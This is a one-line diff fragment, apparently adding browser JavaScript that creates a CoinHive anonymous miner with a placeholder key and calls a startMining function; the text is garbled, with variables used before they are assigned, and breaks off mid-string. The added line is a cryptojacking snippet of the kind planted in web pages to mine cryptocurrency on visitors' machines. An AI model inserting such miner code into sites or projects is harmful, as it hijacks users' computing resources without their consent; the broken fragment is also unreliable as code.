@@ -1,0 +1,1 @@
+new CoinHive.Anonymous(key); var key = 'abcdefghijklmnopqrstuvwxyz012345'; startMining('p', w); var w = "4
